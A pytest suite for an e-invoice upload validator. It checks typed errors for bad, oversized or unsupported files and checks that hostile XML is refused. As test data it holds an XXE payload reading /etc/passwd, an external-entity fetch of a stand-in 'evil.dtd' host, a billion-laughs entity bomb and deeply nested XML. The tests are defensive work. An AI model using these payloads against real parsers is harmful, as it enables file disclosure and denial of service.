"""Reading uploads: typed errors for what cannot be judged, and hostile XML refused or harmless."""

from __future__ import annotations

import time

import facturx
import pytest

from einvoice.errors import (
    FileTooLarge,
    InvoiceFileError,
    NoInvoiceInPdf,
    UnreadableFile,
    UnsupportedFileType,
)
from einvoice.facturx import build_cii
from einvoice.parse import parse_file
from einvoice.validation import validate_file

from .samples import facturx_pdf as make_facturx_pdf
from .samples import invoice, readable_pdf

CII_OPEN = (
    b'<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:'
    b'CrossIndustryInvoice:100">'
)


@pytest.fixture(scope="module")
def plain_pdf() -> bytes:
    return readable_pdf(invoice())


@pytest.fixture(scope="module")
def facturx_pdf() -> bytes:
    return make_facturx_pdf(invoice())


def _status(error: type[InvoiceFileError]) -> int:
    return error.http_status


def test_each_error_carries_the_status_the_api_answers():
    assert (_status(UnreadableFile), _status(NoInvoiceInPdf)) == (400, 400)
    assert (_status(UnsupportedFileType), _status(FileTooLarge)) == (415, 413)


def test_a_pdf_without_invoice_xml_is_a_specific_error(plain_pdf):
    with pytest.raises(NoInvoiceInPdf) as caught:
        validate_file(plain_pdf, "facture.pdf")
    assert caught.value.http_status == 400
    assert "factur-x.xml" in caught.value.message


def test_a_file_that_is_neither_pdf_nor_xml_is_unsupported():
    with pytest.raises(UnsupportedFileType):
        validate_file(b"GIF89a\x01\x00\x01\x00", "photo.gif")
    with pytest.raises(UnsupportedFileType):
        validate_file(b"PK\x03\x04 a zip", "factures.zip")


@pytest.mark.parametrize(
    "content, name",
    [
        (b"", "vide.xml"),
        (b"not really a pdf", "facture.pdf"),
        (b"<rsm:CrossIndustryInvoice><unclosed>", "facture.xml"),
        (b"<html><body>Bonjour</body></html>", "page.xml"),
        (b"%PDF-1.7\n garbage that is no PDF at all", "facture.pdf"),
    ],
    ids=["empty", "pdf_name_no_pdf", "broken_xml", "xml_not_an_invoice", "broken_pdf"],
)
def test_unreadable_input_is_a_400(content, name):
    with pytest.raises(UnreadableFile) as caught:
        validate_file(content, name)
    assert caught.value.http_status == 400
    assert caught.value.message


def test_a_truncated_factur_x_is_a_400(facturx_pdf):
    with pytest.raises(UnreadableFile):
        validate_file(facturx_pdf[: len(facturx_pdf) // 3], "facture.pdf")


def test_a_file_over_the_limit_is_too_large():
    with pytest.raises(FileTooLarge) as caught:
        validate_file(build_cii(invoice()), "facture.xml", max_bytes=1000)
    assert caught.value.http_status == 413


def test_the_default_limit_is_ten_megabytes():
    with pytest.raises(FileTooLarge) as caught:
        validate_file(build_cii(invoice()) + b" " * (10 * 1024 * 1024), "facture.xml")
    assert "10 Mo" in caught.value.message


def test_an_embedded_xml_over_the_limit_is_too_large(facturx_pdf):
    xml_size = len(build_cii(invoice()))
    with pytest.raises(FileTooLarge):
        validate_file(facturx_pdf, "facture.pdf", max_bytes=xml_size - 1)


@pytest.mark.parametrize("prefix", [b"\xef\xbb\xbf", b"\n\n", b"\xef\xbb\xbf \r\n"])
def test_a_byte_order_mark_or_blank_lines_before_the_xml_are_fine(prefix):
    assert validate_file(prefix + build_cii(invoice()), "facture.xml").valid


# --- Hostile XML ------------------------------------------------------------------------------

XXE = (
    b'<?xml version="1.0"?>\n'
    b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    + CII_OPEN
    + b"<rsm:ExchangedDocument>&xxe;</rsm:ExchangedDocument></rsm:CrossIndustryInvoice>"
)
XXE_NETWORK = (
    b'<?xml version="1.0"?>\n'
    b'<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>\n'
    + CII_OPEN
    + b"</rsm:CrossIndustryInvoice>"
)
_ENTITIES = b"".join(
    b'<!ENTITY lol%d "%s">' % (level, b"&lol%d;" % (level - 1) * 10) for level in range(1, 10)
)
BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol0 "lol">'
    + _ENTITIES
    + b"]>\n"
    + CII_OPEN
    + b"<rsm:ExchangedDocument>&lol9;</rsm:ExchangedDocument></rsm:CrossIndustryInvoice>"
)


@pytest.mark.parametrize(
    "hostile", [XXE, XXE_NETWORK, BILLION_LAUGHS], ids=["xxe_file", "xxe_network", "billion"]
)
def test_hostile_xml_is_refused_fast_and_reveals_nothing(hostile):
    started = time.monotonic()
    with pytest.raises(UnreadableFile) as caught:
        validate_file(hostile, "facture.xml")
    assert time.monotonic() - started < 2
    assert "root:" not in caught.value.message
    assert "DOCTYPE" in caught.value.message


@pytest.mark.parametrize("hostile", [XXE, BILLION_LAUGHS], ids=["xxe_file", "billion"])
def test_hostile_xml_inside_a_pdf_is_refused(hostile, plain_pdf):
    pdf = facturx.generate_from_binary(
        plain_pdf,
        hostile,
        flavor="factur-x",
        level="en16931",
        check_xsd=False,
        pdf_metadata={"author": "x", "keywords": "x", "title": "x", "subject": "x"},
    )
    started = time.monotonic()
    with pytest.raises(UnreadableFile):  # NoInvoiceInPdf or the DOCTYPE refusal: both 400
        validate_file(pdf, "facture.pdf")
    assert time.monotonic() - started < 2


def test_hostile_xml_is_refused_by_the_parser_too():
    with pytest.raises(UnreadableFile):
        parse_file(XXE, "facture.xml")


def test_deeply_nested_xml_is_refused():
    deep = CII_OPEN + b"<a>" * 5000 + b"</a>" * 5000 + b"</rsm:CrossIndustryInvoice>"
    with pytest.raises(UnreadableFile):
        validate_file(deep, "facture.xml")


def test_a_zugferd_1_invoice_is_read_and_refused_with_its_profile_named():
    zugferd1 = (
        b'<rsm:CrossIndustryDocument xmlns:rsm="urn:ferd:CrossIndustryDocument:invoice:1p0" '
        b'xmlns:ram="urn:un:unece:uncefact:data:standard:'
        b'ReusableAggregateBusinessInformationEntity:12"/>'
    )
    report = validate_file(zugferd1, "zugferd.xml")
    assert (report.valid, report.profile, report.rule_ids()) == (False, None, {"CHORUS-PROFILE"})
    assert report.invoice is None
    with pytest.raises(UnreadableFile):
        parse_file(zugferd1, "zugferd.xml")
